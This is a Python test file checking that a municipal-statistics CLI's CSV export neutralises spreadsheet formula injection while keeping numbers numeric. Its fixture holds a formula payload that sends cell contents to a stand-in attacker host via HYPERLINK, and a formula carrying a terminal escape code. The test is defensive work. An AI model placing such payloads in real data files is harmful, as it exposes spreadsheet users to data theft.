"""`ivp figures --csv`: names from data files never start a formula; numbers stay numbers (issue 12, 2)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from click.testing import CliRunner

import ivp.reports.figures
from ivp.cli import main
from ivp.workspace import Workspace


def test_text_cells_are_neutralised_numbers_kept(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    frame = pd.DataFrame(
        {
            "regio": ["GM0505"],
            "regio_naam": ['=HYPERLINK("http://evil.example/?"&A1,"klik")'],
            "soort_code": ["1.1.1"],
            "soort": ["@SUM(A1)\x1b[2J"],
            "jaar": [2024],
            "aantal": [-3.0],
            "status": ["definitief"],
            "inwoners": [120000.0],
            "inwoners_jaar": [2024.0],
        }
    )
    monkeypatch.setattr(ivp.reports.figures, "figures_table", lambda *_a, **_k: frame.copy())
    out = CliRunner().invoke(
        main, ["figures", "--gemeente", "GM0505", "--csv", "--workspace", str(workspace.root)]
    )
    assert out.exit_code == 0, out.output
    (row,) = csv.DictReader(io.StringIO(out.output))
    assert row["regio_naam"] == '\'=HYPERLINK("http://evil.example/?"&A1,"klik")'
    assert row["soort"] == "'@SUM(A1)\ufffd[2J"
    assert row["aantal"] == "-3"  # a number, not "'-3"
    assert row["regio"] == "GM0505"
